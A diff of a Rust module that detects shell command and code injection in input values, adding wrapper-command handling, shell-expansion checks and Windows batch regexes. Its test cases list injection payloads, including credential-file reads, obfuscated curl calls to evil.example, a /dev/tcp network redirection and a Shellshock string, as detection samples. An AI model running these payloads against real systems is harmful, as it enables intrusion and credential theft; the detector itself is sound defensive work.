@@ -1,7 +1,11 @@
-//! Command and code injection: a shell metacharacter followed by a command, and calls of
+//! Command and code injection: a command where the shell reads one (the value's start, after a
+//! separator, inside a substitution), shell and Windows batch syntax no prose has, and calls of
 //! functions that run commands or code (PHP, Node.js) where a statement may start.
 
-/// Commands that are never an English word after `;` or `|`.
+use regex::Regex;
+
+/// Commands that are never an English word: Unix and Windows tools an attacker runs to look
+/// around, fetch, pivot or persist.
 const COMMANDS: &[&str] = &[
     "whoami",
     "uname",
@@ -18,25 +22,38 @@ const COMMANDS: &[&str] = &[
     "zsh",
     "ksh",
     "csh",
+    "tcsh",
     "dash",
     "powershell",
     "pwsh",
     "cmd",
-    "python",
-    "python2",
-    "python3",
-    "perl",
-    "ruby",
-    "php",
+    "cscript",
+    "wscript",
+    "irb",
+    "jjs",
+    "jrunscript",
+    "tclsh",
+    "gdb",
+    "vim",
+    "vi",
     "telnet",
+    "ssh",
+    "scp",
+    "sftp",
+    "rsync",
     "systeminfo",
     "netstat",
     "passwd",
     "chmod",
     "chown",
+    "chattr",
     "useradd",
+    "usermod",
+    "visudo",
     "crontab",
     "base64",
+    "base32",
+    "xxd",
     "xterm",
     "socat",
     "tftp",
@@ -44,32 +61,60 @@ const COMMANDS: &[&str] = &[
     "bitsadmin",
     "rundll32",
     "regsvr32",
+    "regedit",
+    "bcdboot",
+    "bcdedit",
+    "schtasks",
+    "vssadmin",
+    "icacls",
     "wmic",
     "mshta",
+    "msiexec",
     "nmap",
+    "tcpdump",
     "tasklist",
     "taskkill",
     "net",
     "awk",
     "gawk",
     "sed",
-    "xargs",
     "busybox",
-    "nohup",
     "sudo",
     "su",
-    "timeout",
     "getent",
     "lsof",
     "pkill",
     "killall",
+    "lastlog",
+    "strace",
+    "ltrace",
+    "unxz",
+    "gunzip",
+    "bzip2",
+    "zcat",
+    "openssl",
+    "mkfifo",
+    "dmesg",
+    "iptables",
+    "systemctl",
+    "docker",
+    "kubectl",
+    "ansible",
+    "rmt",
+    "uptime",
+    "hostname",
+    "printenv",
 ];
-/// Commands that are also words: they count only with an argument that looks like one.
+/// Commands that are also words (or names of languages): they count only with an argument that
+/// looks like one.
 const WORD_COMMANDS: &[&str] = &[
     "cat", "ls", "id", "echo", "ping", "sleep", "rm", "cp", "mv", "dir", "type", "find", "kill",
-    "ps", "env", "set", "more", "less", "head", "tail", "touch", "who", "w", "uptime", "hostname",
-    "grep", "tac", "nl", "od", "tee", "mkdir", "exec", "eval", "export", "printf", "dig", "host",
-    "whoami", "del", "copy", "ver", "vol", "java", "node", "tar", "zip", "unzip", "chmod",
+    "ps", "env", "set", "more", "less", "head", "tail", "touch", "who", "w", "grep", "tac", "nl",
+    "od", "tee", "mkdir", "exec", "eval", "export", "printf", "dig", "host", "del", "copy", "ver",
+    "vol", "java", "node", "tar", "zip", "unzip", "cd", "top", "date", "comm", "diff", "alias",
+    "mount", "file", "stat", "last", "sort", "cut", "wc", "strings", "reg", "at", "start", "call",
+    // Languages are talked about as often as they are run.
+    "python", "python2", "python3", "perl", "ruby", "php", "lua",
 ];
 /// Functions that run a command or code when called with attacker data.
 const EXEC_FUNCTIONS: &[&str] = &[
@@ -103,50 +148,217 @@ const EXEC_FUNCTIONS: &[&str] = &[
     "execfile",
 ];
 
-/// The rule `value` (lower-cased) breaks, if any.
-pub fn check(value: &str) -> Option<&'static str> {
-    let value = value
-        .replace("${ifs}", " ")
-        .replace("$ifs", " ")
-        .replace("$@", "");
-    let bytes = value.as_bytes();
-    for (at, byte) in bytes.iter().enumerate() {
-        let after = match byte {
-            b';' | b'|' | b'&' | b'`' | b'\n' => &value[at + 1..],
-            b'$' if bytes.get(at + 1) == Some(&b'(') => &value[at + 2..],
-            _ => continue,
-        };
-        if command_follows(after) {
-            return Some("cmd.shell_command");
-        }
-    }
-    if value.contains("<?php")
-        || value.contains("<?=")
-        || value.contains("php://")
-        || value.contains("phar://")
-    {
-        return Some("code.php");
-    }
-    if value.contains("child_process")
-        || value.contains("process.mainmodule")
-        || value.contains(".constructor.constructor(")
-        || value.contains("require('child")
-        || value.contains("process.binding(")
-    {
-        return Some("code.nodejs");
-    }
-    exec_call(&value).then_some("code.exec_call")
+/// Wrappers that run the command that follows them: `nohup id`, `sudo -u x cat f`.
+const PREFIX_COMMANDS: &[&str] = &[
+    "nohup", "strace", "ltrace", "sudo", "doas", "xargs", "stdbuf", "ionice", "busybox", "setsid",
+    "unbuffer", "chroot",
+];
+/// Wrappers that are also English words: what follows must be a command no sentence has.
+const WORD_PREFIX_COMMANDS: &[&str] = &["time", "nice", "env", "watch", "command", "exec"];
+
+/// Command and code injection, with the Windows batch grammar compiled once.
+pub struct Commands {
+    /// `for /f "delims=" %i in (...) do ...`
+    batch_for: Regex,
+    /// `if [/i] [not] exist x cmd`, `if %a% equ 1 cmd`, `if "%x%"=="y" cmd`.
+    batch_if: Regex,
 }
 
-fn command_follows(after: &str) -> bool {
-    let start = after.trim_start_matches([' ', '\t', '|', '&', '(', '{', '\n', '\r']);
-    let end = start
+impl Commands {
+    pub fn new() -> Self {
+        let compile = |pattern: &str| Regex::new(pattern).expect("command patterns compile");
+        Self {
+            batch_for: compile(
+                r#"(?:^|[\s&|;(@])for(?:\s+/[a-z](?:\s+"[^"]*"|\s+[^\s%/"]+)?)*\s+%%?[^\s%]{1,20}\s+in\s*\([^)]*\)\s*do\b"#,
+            ),
+            batch_if: compile(
+                r#"(?:^|[\s&|;(@])if\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S+|errorlevel\s+\d+|\S+?\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*[^\s=][^\s:]*)\s+[a-z@(]"#,
+            ),
+        }
+    }
+
+    /// The rule `value` (lower-cased) breaks, if any.
+    pub fn check(&self, value: &str) -> Option<&'static str> {
+        let value = expand_variables(value);
+        if command_at(&value, Position::ValueStart) {
+            return Some("cmd.shell_command");
+        }
+        let bytes = value.as_bytes();
+        for (at, byte) in bytes.iter().enumerate() {
+            let (after, position) = match byte {
+                b';' | b'|' | b'&' | b'\n' => (&value[at + 1..], Position::AfterSeparator),
+                b'`' if !markdown_code(&value, at) => (&value[at + 1..], Position::AfterSeparator),
+                b'$' | b'<' | b'>' if bytes.get(at + 1) == Some(&b'(') => {
+                    (&value[at + 2..], Position::Substitution)
+                }
+                _ => continue,
+            };
+            if command_at(after, position) {
+                return Some("cmd.shell_command");
+            }
+        }
+        if shell_expansion(&value) {
+            return Some("cmd.shell_expansion");
+        }
+        if self.batch_for.is_match(&value) || self.batch_if.is_match(&value) {
+            return Some("cmd.windows_batch");
+        }
+        if value.contains("<?php")
+            || value.contains("<?=")
+            || value.contains("php://")
+            || value.contains("phar://")
+        {
+            return Some("code.php");
+        }
+        if value.contains("child_process")
+            || value.contains("process.mainmodule")
+            || value.contains(".constructor.constructor(")
+            || value.contains("require('child")
+            || value.contains("process.binding(")
+        {
+            return Some("code.nodejs");
+        }
+        exec_call(&value).then_some("code.exec_call")
+    }
+}
+
+/// The value with shell variable expansions done as a shell without those variables would:
+/// `$IFS` is whitespace, other `${name}`, `$@` and `$*` vanish (`c${x}url` is `curl`).
+fn expand_variables(value: &str) -> String {
+    if !value.contains('$') {
+        return value.to_owned();
+    }
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(at) = rest.find('$') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        if let Some(inner) = after.strip_prefix('{')
+            && let Some(close) = inner.find('}')
+            && inner[..close]
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        {
+            if &inner[..close] == "ifs" {
+                out.push(' ');
+            }
+            rest = &inner[close + 1..];
+        } else if let Some(tail) = after.strip_prefix("ifs") {
+            out.push(' ');
+            rest = tail;
+        } else if let Some(tail) = after.strip_prefix(['@', '*']) {
+            rest = tail;
+        } else {
+            out.push('$');
+            rest = after;
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// A backtick that opens a Markdown code span in prose (``run `ls -la` to list``): a word and a
+/// space before it, and the span closed and followed by a space and more words.
+fn markdown_code(value: &str, at: usize) -> bool {
+    let before = value[..at].trim_end();
+    let spaced_before = before.len() < at && before.ends_with(|c: char| c.is_alphabetic());
+    let Some(close) = value[at + 1..].find('`') else {
+        return false;
+    };
+    let after = &value[at + 1 + close + 1..];
+    let prose_after =
+        after.starts_with(' ') && after.trim_start().starts_with(|c: char| c.is_alphabetic());
+    spaced_before && prose_after
+}
+
+/// Shell syntax no prose has: arithmetic and process substitution, parameter expansion with
+/// operators, function definitions (Shellshock) and bash's network redirections.
+fn shell_expansion(value: &str) -> bool {
+    if value.contains("$((") || value.contains("/dev/tcp/") || value.contains("/dev/udp/") {
+        return true;
+    }
+    if value.trim_start().starts_with("() {") || value.trim_start().starts_with("(){") {
+        return true;
+    }
+    // `{cat,/etc/passwd}`: brace expansion spells a command and its arguments without spaces.
+    let brace_command = value.match_indices('{').any(|(at, _)| {
+        let (name, _, rest) = command_word(value[at + 1..].trim_start_matches(','));
+        rest.starts_with(',') && is_command(&name)
+    });
+    brace_command
+        || value.match_indices("${").any(|(at, _)| {
+            let inner = &value[at + 2..];
+            let name_len = inner
+                .bytes()
+                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                .count();
+            let operator = &inner.as_bytes()[name_len..];
+            (name_len > 0 && matches!(operator.first(), Some(b'#' | b'%' | b'/' | b'^' | b',')))
+                || (name_len == 0 && matches!(operator.first(), Some(b'!' | b'#')))
+        })
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Position {
+    /// The start of the value: only a command given arguments that look like arguments.
+    ValueStart,
+    /// After a separator.
+    AfterSeparator,
+    /// Inside `$(...)`, `<(...)` or `>(...)`: whatever is there runs.
+    Substitution,
+}
+
+/// Whether a command starts `text`, read at `position`.
+fn command_at(text: &str, position: Position) -> bool {
+    let mut rest = text.trim_start_matches([' ', '\t', '|', '&', '(', '{', ',', '\n', '\r']);
+    // Some(true) after a wrapper no sentence has, Some(false) after one that is also a word.
+    let mut wrapped = None;
+    for _ in 0..4 {
+        let (name, word, after) = command_word(rest);
+        if PREFIX_COMMANDS.contains(&name.as_str()) {
+            wrapped = Some(true);
+        } else if WORD_PREFIX_COMMANDS.contains(&name.as_str()) {
+            wrapped = wrapped.or(Some(false));
+        } else {
+            return judge(&name, &word, after, position, wrapped);
+        }
+        // A wrapper's own options, their values and numbers (`timeout 5`, `sudo -u root`)
+        // come before the command it runs.
+        rest = after.trim_start();
+        while rest.starts_with('-') || rest.starts_with(|c: char| c.is_ascii_digit()) {
+            let option = rest.starts_with('-');
+            rest = skip_word(rest);
+            let (next, _, _) = command_word(rest);
+            if option
+                && !is_command(&next)
+                && !PREFIX_COMMANDS.contains(&next.as_str())
+                && !rest.starts_with('-')
+            {
+                rest = skip_word(rest);
+            }
+        }
+    }
+    false
+}
+
+fn is_command(name: &str) -> bool {
+    COMMANDS.contains(&name) || WORD_COMMANDS.contains(&name)
+}
+
+fn skip_word(text: &str) -> &str {
+    let end = text.find(char::is_whitespace).unwrap_or(text.len());
+    text[end..].trim_start()
+}
+
+/// The first word of `text` as the shell reads it (quotes and backslashes inside a word vanish:
+/// `c'a't`, `w\ho\am\i`), the name of the command it runs and what follows it.
+fn command_word(text: &str) -> (String, String, &str) {
+    let end = text
         .find(|c: char| {
             c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '}' | ',')
         })
-        .unwrap_or(start.len());
-    // Quotes and backslashes inside a word vanish in the shell: `c'a't`, `w\ho\am\i`.
-    let word: String = start[..end]
+        .unwrap_or(text.len());
+    let word: String = text[..end]
         .chars()
         .filter(|c| !matches!(c, '\'' | '"' | '\\'))
         .collect();
@@ -154,27 +366,47 @@ fn command_follows(after: &str) -> bool {
         .rsplit(['/', '\\'])
         .next()
         .unwrap_or_default()
-        .trim_end_matches(".exe");
+        .trim_end_matches(".exe")
+        .to_owned();
+    (name, word, &text[end..])
+}
+
+fn judge(name: &str, word: &str, rest: &str, position: Position, wrapped: Option<bool>) -> bool {
     if name.is_empty() {
-        return false;
-    }
-    let path_given = word.contains('/') && (word.starts_with('/') || word.starts_with("./"));
-    let rest = &start[end..];
-    if COMMANDS.contains(&name) || (path_given && (word.contains("bin/") || word.starts_with("./")))
-    {
-        return true;
-    }
-    if !WORD_COMMANDS.contains(&name) {
         return false;
     }
     let argument = rest.trim_start_matches([' ', '\t']);
     let spaced = rest.len() > argument.len();
-    argument.is_empty() && rest.is_empty()
-        || argument.starts_with(['`', ';', '|', '&', ')', '>', '<'])
-        || (spaced && argument.starts_with(['-', '/', '.', '$', '~', '\'', '"', '%', '\\', '*']))
-        || (spaced
-            && argument.as_bytes().first().is_some_and(u8::is_ascii_digit)
-            && name == "sleep")
+    let option_or_path = spaced
+        && (argument.starts_with(['-', '/', '~', '$', '\'', '"', '\\', '*'])
+            || argument.starts_with("./")
+            || argument.starts_with("../"));
+    // `/bin/sh`, `/usr/bin/id`, and the globbed `/???/c?t` that spells one.
+    let binary_path =
+        word.starts_with('/') && (word.contains("bin/") || word[1..].contains(['?', '*', '[']));
+    if binary_path || (word.starts_with("./") && word.len() > 2) {
+        return position != Position::ValueStart || option_or_path || wrapped.is_some();
+    }
+    // `ansible-playbook`, `ssh-copy-id`: a tool's family shares its name.
+    let family = name.split('-').next().unwrap_or_default();
+    let known = COMMANDS.contains(&name) || COMMANDS.contains(&family);
+    let word_command = WORD_COMMANDS.contains(&name);
+    match (position, wrapped) {
+        (Position::Substitution, _) | (_, Some(true)) => known || word_command,
+        (Position::AfterSeparator, _) if known => true,
+        (_, Some(false)) => known || (word_command && option_or_path),
+        (Position::ValueStart, None) => (known || word_command) && option_or_path,
+        (Position::AfterSeparator, None) => {
+            word_command
+                && ((argument.is_empty() && rest.is_empty())
+                    || argument.starts_with(['`', ';', '|', '&', ')', '>', '<'])
+                    || option_or_path
+                    || (spaced && argument.starts_with('%'))
+                    || (spaced
+                        && argument.as_bytes().first().is_some_and(u8::is_ascii_digit)
+                        && name == "sleep"))
+        }
+    }
 }
 
 /// `system('id')`, `';eval($_POST[x]);//`: an exec function called where a statement starts
@@ -205,10 +437,11 @@ fn exec_call(value: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::check;
+    use super::Commands;
 
     #[test]
     fn injections_are_found() {
+        let commands = Commands::new();
         for value in [
             "127.0.0.1; cat /etc/passwd",
             "x|whoami",
@@ -223,13 +456,40 @@ mod tests {
             "system('id');",
             "';eval($_post[x]);//",
             "require('child_process').exec('ls')",
+            // At the value's start, with arguments that look like arguments.
+            "ls /etc/passwd",
+            "/usr/bin/python3 -m http.server",
+            "/???/c?t /???/p??s??",
+            // Behind wrappers.
+            "time sh -c whoami",
+            "nohup who",
+            "strace ifconfig",
+            "sudo -u root cat /etc/shadow",
+            // Expansions and substitutions.
+            ";c${kk}url evil.example",
+            ";lastlog -u root",
+            ";ansible-vault decrypt secret",
+            "x>(tee log)",
+            "<(curl evil.example)",
+            "${path#{}/}",
+            "$(($(id) 42))",
+            "exec 5<>/dev/tcp/203.0.113.9/80",
+            "() { :; }; /bin/bash -c id",
+            "{,echo,#test}",
+            // Windows batch.
+            "for /f \"delims=\" %i in ('cmd /c whoami') do echo %i",
+            "& for %a in (a,b,c) do cmd",
+            "if exist c:\\pagefile.sys cmd",
+            "if %errorlevel% neq 0 echo failed",
+            "if /i \"%var%\"==\"yes\" (echo found)",
         ] {
-            assert!(check(value).is_some(), "missed {value:?}");
+            assert!(commands.check(value).is_some(), "missed {value:?}");
         }
     }
 
     #[test]
     fn prose_and_code_talk_are_not() {
+        let commands = Commands::new();
         for value in [
             "tom & jerry; cat food is on sale",
             "salt & pepper | fish & chips",
@@ -238,8 +498,19 @@ mod tests {
             "use eval(x) sparingly in templates",
             "the command line is documented in the ls man page",
             "5 mg; sleep well",
+            "run `ls -la` in the project folder to see hidden files.",
+            "ruby on rails; python for data",
+            "nice cat, time for bed",
+            "watch less tv & sleep more",
+            "price is ${amount} today",
+            "for each item in (the list) do nothing",
+            "if (count == 0) { return; }",
+            "if x == 1: print(x)",
+            "if you exist, say hi",
+            "mozilla/5.0 (x11; linux x86_64; rv:126.0) gecko/20100101 firefox/126.0",
+            "so angry >(",
         ] {
-            assert_eq!(check(value), None, "flagged {value:?}");
+            assert_eq!(commands.check(value), None, "flagged {value:?}");
         }
     }
 }
